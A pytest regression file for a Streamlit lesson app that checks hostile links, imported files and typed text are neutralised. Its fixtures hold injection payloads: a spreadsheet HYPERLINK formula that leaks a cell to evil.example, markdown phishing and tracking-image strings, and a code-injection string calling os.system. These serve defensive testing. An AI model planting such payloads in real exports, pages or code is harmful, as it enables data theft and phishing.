"""Hostile links, files and typed text (issue 19): one regression test per finding, in AppTest, at the
level a learner meets it (a link opened, a file imported, a text typed, a download clicked). The
browser-level checks (the DOM of a message, the exported SVG) are in tests/browser/test_hostile.py;
the deployment's in tests/test_deploy.py; the property-based tests in tests/test_hostile_properties.py.

Numbered like the issue's findings.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
import zipfile
from typing import Any

import numpy as np
import pytest
from streamlit.runtime.state.query_params import QueryParams
from streamlit.testing.v1 import AppTest

from pages import LESSONS
from tests.apptest_helpers import APP
from tests.share_helpers import numbers, opened, state
from ui.escape import CSV_FORMULA_START, csv_label, md_code, plot_label, xml_text
from ui.i18n import catalog
from ui.share.state import fields
from ui.share_tools import export_file

EN = catalog("en")
#: What breaks out of a markdown code span or makes markup: line breaks, and the markup itself.
LINE_BREAKS = "\r\n\x0b\x0c\x85\u2028\u2029"
_CODE_SPAN = re.compile(r"(`+)(.+?)\1", re.S)


def outside_code(markdown: str) -> str:
    """The markdown with its code spans removed: what Streamlit would interpret."""
    return _CODE_SPAN.sub("", markdown)


def assert_inert(markdown: str, *user_texts: str) -> None:
    """A message holding user text: on one line (no break can end a code span or start a heading), and
    no markup from the user's text outside code spans."""
    assert not any(c in markdown for c in LINE_BREAKS), repr(markdown)
    bare = outside_code(markdown)
    for bad in ("![", "](", "<img", "<a ", "## "):
        assert bad not in bare, (bad, markdown)
    for text in user_texts:
        for part in re.findall(r"\w{4,}", text):  # every word of the user's text is inside a code span
            assert part not in bare, (part, markdown)


def messages(at: AppTest) -> list[str]:
    return [str(m.value) for m in [*at.warning, *at.error, *at.info, *at.success, *at.caption]]


# --------------------------------------------------------------------------- 1. a link can crash step by step
SBS = LESSONS["step_by_step"]


@pytest.mark.parametrize(
    "params",
    [
        {SBS.key(f.name): "" for f in SBS.experiment},  # every step-by-step parameter empty
        {"sbs_sentence": ""},  # the sentence alone: its tables have no default
        {"sbs_sentence": "", "sbs_emb": "1_2~3_4", "sbs_wq": "b1x1.AAAAAAAA8D8"},
        {"sbs_dim": "", "sbs_seed": "", "sbs_wk": "1"},
    ],
    ids=["all-empty", "sentence-empty", "sentence-empty-tables", "size-empty"],
)
def test_1_empty_step_by_step_parameters_never_crash_the_lesson(params: dict[str, str]) -> None:
    at = opened("step_by_step", params)  # opened() asserts at.exception is empty
    text = [w.value for w in at.warning if "ignored" in w.value]
    dropped = [k for k in params if k != "sbs_sentence"]
    assert len(text) == (1 if dropped else 0) and all(f"`{k}`" in text[0] for k in dropped[:6]), text
    for key in dropped:
        assert key not in at.query_params
    if params.get("sbs_sentence") == "":
        assert any(e.value == EN["error.empty_text"] for e in at.error)  # said next to the sentence
    at.text_input(key="sbs_sentence").set_value("Tôi thích học AI").run()
    assert not at.exception and not at.error  # and the lesson goes on


# --------------------------------------------------------------------------- 2. CSV formula injection
FORMULA = '=HYPERLINK("https://evil.example/?d="&B2,"Open_notes")'
HOSTILE_TOKENS = [FORMULA, "+SUM(1)", "-2+3", "@cmd", "\uff1dA1", "\uff0bA1", "\uff0dA1", "\uff20A1", "plain"]


def _zip_cells(data: bytes) -> list[tuple[str, list[list[str]]]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(n, list(csv.reader(io.StringIO(z.read(n).decode("utf-8"))))) for n in sorted(z.namelist())]


def _check_zip(data: bytes, tokens: list[str]) -> int:
    """Every label cell is safe (and is the token with a leading ' when it had to be); every number cell
    is a plain number. Returns how many label cells held one of ``tokens``."""
    seen = 0
    tables = _zip_cells(data)
    assert tables
    for name, rows in tables:
        labels = [*rows[0][1:], *(r[0] for r in rows[1:])]
        for cell in labels:
            assert cell[:1] not in CSV_FORMULA_START, (name, cell)
            base = cell[1:] if cell.startswith("'") else cell
            if any(base[:10] == tok[:10] for tok in tokens):  # labels are cut at 24 characters
                seen += 1
                assert cell == csv_label(base), (name, cell)
        for r in rows[1:]:
            for cell in r[1:]:
                assert float(cell) == float(cell) and not cell.startswith("'"), (name, cell)  # numbers stay numbers
    return seen


def test_2_csv_labels_from_a_link_are_never_formulas() -> None:
    at = opened("step_by_step", {"sbs_sentence": " ".join(HOSTILE_TOKENS)})
    assert not at.error, [e.value for e in at.error]
    data = export_file(SBS, "csv", state(at, "step_by_step"), "en")
    assert _check_zip(data, HOSTILE_TOKENS) >= 3 * len(HOSTILE_TOKENS)  # token rows and score columns


def test_2_csv_labels_from_a_word2vec_corpus_are_never_formulas() -> None:
    text = "\n".join([f"{FORMULA} cat dog", "@cmd cat bird", f"cat {FORMULA} dog"] * 3)
    spec = LESSONS["word2vec"]
    link = {
        "w2v_preset": "english",
        "w2v_lower": "false",
        "w2v_text": text,
        "w2v_min_count": "1",
        "w2v_epochs": "5",
        "w2v_vector_size": "4",
        "w2v_query": FORMULA,
    }
    at = opened("word2vec", link)
    assert not at.exception and not [w.value for w in at.warning if "ignored" in w.value]
    data = export_file(spec, "csv", state(at, "word2vec"), "en")
    assert _check_zip(data, [FORMULA, "@cmd"]) >= 3  # the query's row label and the keys' columns


def test_2_csv_label_rule() -> None:
    for s in ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201"]:
        assert csv_label(s) == "'" + s
    for s in ["a=1", "1", "", "'=x", " =1", "d1"]:
        assert csv_label(s) == s


# --------------------------------------------------------------------------- 3. markdown through a line break
HOSTILE_MARKDOWN = [
    "\r\r![](http://127.0.0.1:8799/a)",
    "\r\r## Session expired\r\r[Sign in again](http://evil.example/login)",
    "\n\n![](//evil.example/t)",
    "\u2028\u2028[x](http://evil.example)",
    "\x0b\x0c<img src=x>",
]


@pytest.mark.parametrize("name", HOSTILE_MARKDOWN, ids=range(len(HOSTILE_MARKDOWN)))
def test_3_a_link_parameter_name_stays_inside_its_code_span(name: str) -> None:
    at = opened("library", {name: "1"})
    (notice,) = [w.value for w in at.warning]
    assert_inert(notice, name)


@pytest.mark.parametrize("value", HOSTILE_MARKDOWN[:2], ids=range(2))
def test_3_a_lang_value_stays_inside_its_code_span(value: str) -> None:
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params["lang"] = value
    at.run()  # app.py: the sidebar's language selector says the value was ignored
    assert not at.exception
    notes = [c.value for c in at.sidebar.caption if "ignored" in c.value]
    assert len(notes) == 1
    assert_inert(notes[0], value)


def _library_file(**change: Any) -> dict[str, Any]:
    at = opened("library")
    s = state(at, "library")
    inputs = {f.name: f.plain(s[f.name]) for f in fields(LESSONS["library"]) if f.active(s)}
    doc = json.loads(export_file(LESSONS["library"], "json", s, "en"))
    assert doc["inputs"] == inputs
    doc.update(change)
    return doc


@pytest.mark.parametrize(
    "change",
    [
        {"inputs_extra": HOSTILE_MARKDOWN[0]},
        {"inputs_extra": HOSTILE_MARKDOWN[1]},
        {"lesson": HOSTILE_MARKDOWN[1]},
        {"version": HOSTILE_MARKDOWN[0]},
    ],
    ids=["key-image", "key-heading", "lesson", "version"],
)
def test_3_an_imported_file_names_its_keys_lesson_and_version_literally(change: dict[str, str]) -> None:
    doc = _library_file()
    hostile = next(iter(change.values()))
    if "inputs_extra" in change:
        doc["inputs"][hostile] = 1
    else:
        doc.update(change)
    at = opened("library", imported=json.dumps(doc).encode())
    (error,) = [e.value for e in at.error]
    assert_inert(error, hostile)


def test_3_md_code_turns_every_line_break_into_a_space() -> None:
    for br in ["\r", "\n", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"]:
        assert md_code(f"a{br}{br}# b") == "`a  # b`"
    assert md_code("x\x01\u202e\ud800y") == "`x\ufffd\ufffd\ufffdy`"


# --------------------------------------------------------------------------- 4. markdown in column tooltips
def test_4_long_column_labels_never_reach_a_tooltip() -> None:
    """A column is as wide as its whole label (issue 20), so a label is never put in a tooltip,
    which Streamlit renders as markdown; a tooltip that does exist never carries a token."""
    tokens = ["[Login](//evil.example/login)", "![](//evil.example/t.png)", "**bold**_and_more_text"]
    at = opened("step_by_step", {"sbs_sentence": " ".join(tokens)})
    assert not at.exception
    labels, tips = [], []
    for frame in at.dataframe:
        for name, conf in json.loads(frame.proto.columns or "{}").items():
            labels.append(conf.get("label", name) if isinstance(conf, dict) else name)
            if isinstance(conf, dict) and conf.get("help"):
                tips.append(conf["help"])
    assert any(t in str(labels) for t in tokens), labels  # the tokens are column labels ...
    for tip in tips:
        assert not any(t[:10] in tip for t in tokens), tip  # ... and never tooltips


# --------------------------------------------------------------------------- 5. control characters in text
@pytest.mark.parametrize("char", ["\x01", "\x1b", "\x7f", "\x85", "\r", "\u202e", "\u2066"])
def test_5_a_typed_sentence_with_a_control_character_is_refused_next_to_the_box(char: str) -> None:
    at = opened("step_by_step")
    at.text_input(key="sbs_sentence").set_value(f"cat{char}dog sat").run()
    assert not at.exception
    code = "text_bidi" if char in "\u202e\u2066" else "text_control"
    want = EN[f"error.{code}"].format(char=f"U+{ord(char):04X}", pos=4)
    assert want in [e.value for e in at.error]
    assert at.text_input(key="sbs_sentence").value == f"cat{char}dog sat"  # what was typed stays in the box
    assert not any(char in str(lbl) for lbl in _live_labels(at))  # nothing of it reached the live view


def _live_labels(at: AppTest) -> list[str]:
    from tests.apptest_helpers import live_views

    return [lbl for header, _ in live_views(at).values() for lbl in [*header["rows"], *header["cols"]]]


def test_5_a_word2vec_corpus_or_a_matrix_text_with_a_control_character_is_refused() -> None:
    at = AppTest.from_file(APP, default_timeout=120)
    at.session_state["w2v_preset"] = "english"
    at.switch_page(LESSONS["word2vec"].path).run()
    at.text_area(key="w2v_text").input("the cat\x01 sat\nthe dog sat").run()
    assert not at.exception
    assert EN["error.text_control"].format(char="U+0001", pos=8) in [e.value for e in at.error]
    at = opened("library")
    text = "1 0 1\n0.5 1 0.5\x1b\n0 0.5 1"
    at.text_area(key="library_k__text").input(text).run()
    assert not at.exception
    assert EN["error.text_control"].format(char="U+001B", pos=text.index("\x1b") + 1) in [e.value for e in at.error]


def test_5_svg_and_plotly_labels_hold_nothing_xml_forbids() -> None:
    import xml.etree.ElementTree as ET

    label = "a\x01b\x0bc\ud800d<e>&\"f'"
    for s in (xml_text(label), plot_label(label, 100)):
        ET.fromstring(f"<t a='{xml_text(label)}'>{s}</t>")  # parses


# --------------------------------------------------------------------------- 6. a 401-digit integer in a file
@pytest.mark.parametrize(
    ("page", "name", "value"),
    [
        ("library", "temperature", 10**400),
        ("library", "q", [[10**400, 0, 1]]),
        ("pooling", "w", [10**400, 0, 0, 0]),
        ("word2vec", "alpha", 10**400),
        ("library", "temperature", -(10**400)),
    ],
    ids=["real", "matrix-cell", "vector", "w2v-real", "negative"],
)
def test_6_a_huge_integer_in_a_file_is_refused_with_a_message(page: str, name: str, value: Any) -> None:
    spec = LESSONS[page]
    before = opened(page)
    doc = json.loads(export_file(spec, "json", state(before, page), "en"))
    doc["inputs"][name] = value
    at = opened(page, imported=json.dumps(doc).encode())  # no exception: opened() checks
    errors = [e.value for e in at.error]
    assert any(e.startswith(EN["share.import_bad_value"].split("{")[0]) and f"`{name}`" in e for e in errors), errors
    if page != "word2vec":  # (training makes the lab's figures differ in timing only)
        np.testing.assert_array_equal(numbers(at)["weights"], numbers(before)["weights"])


# --------------------------------------------------------------------------- 7. a lone surrogate in a file
@pytest.mark.parametrize(
    ("page", "name"), [("step_by_step", "sentence"), ("word2vec", "text"), ("word2vec", "query")]
)
def test_7_a_lone_surrogate_in_a_file_is_refused_and_the_lesson_keeps_working(page: str, name: str) -> None:
    spec = LESSONS[page]
    doc = json.loads(export_file(spec, "json", state(opened(page), page), "en"))
    doc["inputs"][name] = "a \ud800 b" if name != "query" else "a\ud800"
    data = json.dumps(doc).encode()  # json writes \ud800: what a hostile file holds
    assert b"\\ud800" in data
    at = opened(page, imported=data)
    assert any(f"`{name}`" in e.value for e in at.error), [e.value for e in at.error]
    for _ in range(2):  # every later run works (the bound text box kept no surrogate)
        at.run()
        assert not at.exception
    if page == "step_by_step":
        at.button(key="sbs_reset").click().run()
        assert not at.exception


# --------------------------------------------------------------------------- 8. many unknown link parameters
def test_8_many_bad_link_parameters_are_removed_in_one_write(monkeypatch: pytest.MonkeyPatch) -> None:
    """999 unknown keys of 23 characters (a 24 KB link): the cleaned query string is sent once, not
    once per key (each send carries the whole remaining string: quadratic traffic)."""
    sent: list[str] = []
    original = QueryParams._send_query_param_msg

    def counting(self: QueryParams) -> None:
        sent.append("?")
        original(self)

    monkeypatch.setattr(QueryParams, "_send_query_param_msg", counting)
    opened("library", {"zzz": "1"})
    one_bad = len(sent)
    sent.clear()
    keys = {f"unknown_parameter_{i:05d}": "1" for i in range(999)}
    assert len(next(iter(keys))) == 23
    start = time.perf_counter()
    at = opened("library", {**keys, "library_scale": "true"})
    seconds = time.perf_counter() - start
    assert len(sent) == one_bad, f"{len(sent)} query-string writes for 999 bad keys ({one_bad} for one)"
    assert not any(k in at.query_params for k in keys) and at.query_params["library_scale"] == "true"
    (notice,) = [w.value for w in at.warning]
    assert "999" in notice
    assert seconds < 10, seconds


# --------------------------------------------------------------------------- 9. the Word2Vec export retrains
def test_9_the_word2vec_export_uses_the_page_training_cache(monkeypatch: pytest.MonkeyPatch) -> None:
    import attention_core
    from ui import word2vec_cache

    calls: list[int] = []
    real = attention_core.train_word2vec

    def counted(*a: Any, **k: Any) -> Any:
        calls.append(1)
        return real(*a, **k)

    monkeypatch.setattr(attention_core, "train_word2vec", counted)
    spec = LESSONS["word2vec"]
    at = opened("word2vec", {"w2v_preset": "learn_en", "w2v_seed": "7"})
    s = state(at, "word2vec")
    trained = word2vec_cache.training_runs()
    doc = json.loads(export_file(spec, "json", s, "en"))
    export_file(spec, "csv", s, "en")
    assert calls == [] and word2vec_cache.training_runs() == trained  # the page's model, not a new training
    np.testing.assert_array_equal(
        np.array(doc["results"]["weights"]["values"]).reshape(-1), numbers(at)["weights"].reshape(-1)
    )
    # not cached (evicted): the export trains once, through train_cached (and its slot), then reuses it
    word2vec_cache.clear_cache()
    export_file(spec, "json", s, "en")
    export_file(spec, "csv", s, "en")
    assert calls == [] and word2vec_cache.training_runs() == trained + 1


# --------------------------------------------------------------------------- found by the property tests
def test_word2vec_projections_beyond_64_dimensions_are_a_message_not_a_crash() -> None:
    """tests/test_hostile_properties.py found it: vectors of 65-100 dimensions with the projections on
    raised LimitError from random_tables (which stops at 64), from a link or from the controls."""
    at = opened("word2vec", {"w2v_preset": "learn_en", "w2v_vector_size": "69", "w2v_project": "true"})
    limit = EN["error.limit"].format(name="", low=1, limit=64).strip()  # "must be between 1 and 64."
    assert any(limit in e.value for e in at.error), [e.value for e in at.error]
    at.toggle(key="w2v_project").set_value(False).run()
    assert not at.exception and not at.error


# --------------------------------------------------------------------------- notebooks: literals only
def test_notebooks_write_user_text_as_literals_only() -> None:
    """Values enter a notebook's code as ``repr`` literals: hostile text (here past the entry check, as
    if a future path let it through) reads back exactly, adds no code and no invisible character."""
    import ast

    from ui.export.files import notebook_json

    hostile = "x\r\n## y\x01\u202e\ud800'\"\"\" + __import__('os').system('id') #"
    cases = {
        "step_by_step": {"sentence": hostile},
        "word2vec": {"text": hostile, "query": hostile, "words": [hostile], "keys_from": "words"},
    }
    for page, change in cases.items():
        s = {**state(opened(page), page), **change}
        nb = json.loads(notebook_json(LESSONS[page], s, "en", []))
        code = [("".join(c["source"])) for c in nb["cells"] if c["cell_type"] == "code"]
        text = "\n".join(code)
        assert not any(ch in text for ch in "\r\x01\u202e\ud800"), page
        found = []
        for tree in map(ast.parse, code):  # every cell is valid Python
            for node in ast.walk(tree):
                if isinstance(node, ast.Assign) and isinstance(node.value, ast.Constant | ast.List):
                    found.append(ast.literal_eval(node.value))
                if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "__import__":
                    raise AssertionError("the text became code")
        assert hostile in found or [hostile] in found, page
        markdown = "".join("".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "markdown")
        assert "## y" not in markdown and "\x01" not in markdown
